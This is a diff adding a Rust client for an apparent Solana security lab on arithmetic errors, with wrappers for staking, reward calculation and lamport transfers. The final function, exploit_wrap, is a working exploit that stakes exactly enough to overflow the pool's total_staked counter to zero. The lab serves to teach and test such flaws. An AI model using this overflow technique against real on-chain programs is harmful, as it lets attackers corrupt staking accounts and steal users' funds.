@@ -0,0 +1,65 @@
+//! arithmetic_errors: staking, rewards and transfers
+
+use anyhow::{ensure, Result as AnyResult};
+use lab_domain::StakingPool;
+use lab_instructions::arithmetic_errors::{calculate_rewards_ix, stake_ix, transfer_ix};
+use solana_program::pubkey::Pubkey;
+
+use crate::{Keypair, Signature, Signer};
+
+example_client!("arithmetic_errors");
+
+impl Client {
+    /// `user` stakes `amount` into `pool`, recorded in `stake`
+    pub async fn stake(
+        &self,
+        pool: Pubkey,
+        stake: Pubkey,
+        user: &Keypair,
+        amount: u64,
+    ) -> AnyResult<Signature> {
+        let stake = stake_ix(self.program_id(), pool, stake, user.pubkey(), amount);
+        self.send(&[stake], &[user]).await
+    }
+
+    /// `user` has the rewards on `stake` calculated
+    pub async fn calculate_rewards(
+        &self,
+        pool: Pubkey,
+        stake: Pubkey,
+        user: &Keypair,
+    ) -> AnyResult<Signature> {
+        let calculate = calculate_rewards_ix(self.program_id(), pool, stake, user.pubkey());
+        self.send(&[calculate], &[user]).await
+    }
+
+    /// `user` moves `amount` lamports from `from`, which the program owns,
+    /// to `to`
+    pub async fn transfer(
+        &self,
+        from: Pubkey,
+        to: Pubkey,
+        user: &Keypair,
+        amount: u64,
+    ) -> AnyResult<Signature> {
+        let transfer = transfer_ix(self.program_id(), from, to, user.pubkey(), amount);
+        self.send(&[transfer], &[user]).await
+    }
+
+    /// Stakes, as the payer, exactly what wraps `pool`'s total_staked past
+    /// u64::MAX to zero, recorded in `stake`; returns the amount staked
+    pub async fn exploit_wrap(&self, pool: Pubkey, stake: Pubkey) -> AnyResult<u64> {
+        let total_staked = self.account::<StakingPool>(pool).await?.total_staked;
+        ensure!(total_staked > 0, "an empty pool does not wrap");
+        let amount = u64::MAX - total_staked + 1;
+        let stake = stake_ix(
+            self.program_id(),
+            pool,
+            stake,
+            self.payer().pubkey(),
+            amount,
+        );
+        self.send(&[stake], &[]).await?;
+        Ok(amount)
+    }
+}